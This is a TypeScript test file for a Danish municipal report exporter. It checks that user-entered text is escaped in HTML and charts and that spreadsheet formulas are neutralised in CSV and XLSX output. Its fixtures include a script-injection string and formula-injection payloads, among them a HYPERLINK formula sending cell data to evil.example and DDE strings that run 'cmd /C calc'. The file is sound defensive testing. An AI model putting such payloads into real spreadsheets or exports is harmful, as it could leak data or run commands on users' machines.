import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  barChartSvg,
  buildTable,
  buildTableView,
  createTemplateSet,
  readTemplateFiles,
  tableToCsv,
  tableToJson,
  tableToXlsx,
  templateDirs,
  roundFacts,
  type PublishedTable,
  type TemplateSet,
} from '../../reports/index.ts';
import { SCHEMAS_DIR, testRegistry } from '../helpers/test-registry.ts';
import { submitted } from '../fixtures/reports/ten-municipalities.ts';
import { parseDanishCsv } from './parse-danish-csv.ts';

const SCRIPT = '<script>alert("x")</script>';
const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;

describe('user-written text comes out harmless', () => {
  let table: PublishedTable;
  let set: TemplateSet;
  let facts: ReturnType<typeof roundFacts>;
  beforeAll(async () => {
    const registry = await testRegistry();
    const round = registry.round('2024')!;
    const form = registry.form('2024', 'maaltal')!;
    facts = roundFacts(round, 'maaltal');
    const policy = (text: string) => ({ findes: true, indhold: text, handlinger: text });
    const unit = (navn: string, text: string) => ({
      navn,
      niveau1: { kvinder: 0, maend: 1 },
      niveau2: { kvinder: 1, maend: 4 },
      tidligereMaal: { status: 'ikkeOpfyldt', begrundelse: text },
      maaltal: { fastsat: true, koen: 'kvinder', andel: 40, antal: 2, aar: 2026 },
      politik: policy(text),
    });
    // Split municipalities can report many units: one per payload, the name carrying it too.
    const reports = submitted(form, {
      '0101': { enheder: [SCRIPT, ...PAYLOADS].map((p) => unit(p, p)) },
    });
    table = buildTable({ round, schema: form.schema, reports }).table;
    const built = createTemplateSet(await readTemplateFiles(templateDirs(SCHEMAS_DIR, '2024')), 'Europe/Copenhagen');
    set = built.set!;
  });

  it('escapes markup in the table page', () => {
    const html = set.render('table', buildTableView(table, { id: '2024', title: 't', settings: {}, tables: {} }, {}, { generatedAt: '2024-06-01T00:00:00Z' }));
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('&#x3D;HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Klik&quot;)');
  });

  it('escapes markup in chart labels', () => {
    const svg = barChartSvg([{ label: SCRIPT, value: 10 }], { title: `${SCRIPT} titel`, unit: 'procent', escape: (t) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;') });
    expect(svg).not.toContain('<script');
    expect(svg).toContain('&lt;script&gt;');
  });

  it('neutralises formulas in the CSV and keeps numbers as numbers', () => {
    const rows = parseDanishCsv(tableToCsv(table).toString('utf8'));
    const header = rows[0]!;
    const col = (name: string) => header.indexOf(name);
    const mine = rows.filter((r) => r[0] === '0101');
    expect(mine).toHaveLength(1 + PAYLOADS.length);
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(FORMULA_START);
    for (const [i, p] of [SCRIPT, ...PAYLOADS].entries()) {
      const r = mine[i]!;
      const expected = FORMULA_START.test(p) ? `'${p}` : p;
      expect(r[col('Enhedens navn')]).toBe(expected);
      expect(r[col('Politikkens indhold')]).toBe(expected);
      expect(r[col('Konkrete handlinger')]).toBe(expected);
      expect(r[col('Begrundelse for at tidligere måltal ikke er nået')]).toBe(expected);
      expect(r[col('Andel kvinder (procent)')]).toBe('16,7');
      expect(r[col('Måltal som andel (procent)')]).toBe('40');
    }
  });

  it('neutralises formulas in the XLSX and keeps numbers as numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await tableToXlsx(table, facts)) as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Indberetninger')!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const col = (name: string) => header.indexOf(name);
    let seen = 0;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
      });
      if (row.getCell(1).value !== '0101') return;
      const p = [SCRIPT, ...PAYLOADS][seen++]!;
      expect(row.getCell(col('Politikkens indhold')).value).toBe(FORMULA_START.test(p) ? `'${p}` : p);
      expect(row.getCell(col('Andel kvinder (procent)')).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(col('Andel kvinder (procent)')).value).toBe(16.7);
      expect(row.getCell(col('Niveau 2: mænd')).value).toBe(4);
    });
    expect(seen).toBe(1 + PAYLOADS.length);
  });

  it('keeps the exact text in the JSON, which no spreadsheet evaluates', () => {
    const json = JSON.parse(tableToJson(table, facts, '2024-06-01T00:00:00Z')) as { raekker: Array<Record<string, unknown>> };
    const mine = json.raekker.filter((r) => r.kommunekode === '0101');
    expect(mine.map((r) => r.politikIndhold)).toEqual([SCRIPT, ...PAYLOADS]);
  });
});
